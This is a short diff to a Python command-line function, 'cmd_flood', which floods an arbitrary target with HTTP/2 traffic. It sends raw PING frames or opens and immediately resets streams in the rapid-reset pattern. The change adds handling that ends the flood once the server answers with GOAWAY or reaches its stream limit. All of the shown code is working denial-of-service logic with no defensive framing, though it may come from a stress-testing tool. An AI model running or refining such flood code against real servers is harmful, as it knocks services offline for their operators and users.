@@ -236,9 +236,14 @@ def cmd_flood(args) -> dict:
             elif args.kind == "ping":
                 burst += b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + sent.to_bytes(8, "big")
             else:
-                stream_id = conn.get_next_available_stream_id()
-                conn.send_headers(stream_id, request_headers(args.target), end_stream=False)
-                conn.reset_stream(stream_id)
+                try:
+                    stream_id = conn.get_next_available_stream_id()
+                    conn.send_headers(stream_id, request_headers(args.target), end_stream=False)
+                    conn.reset_stream(stream_id)
+                except h2.exceptions.H2Error:
+                    # The server's GOAWAY (or its stream limit) already arrived: the flood is over.
+                    closed = True
+                    break
                 burst += conn.data_to_send()
             sent += 1
         try:
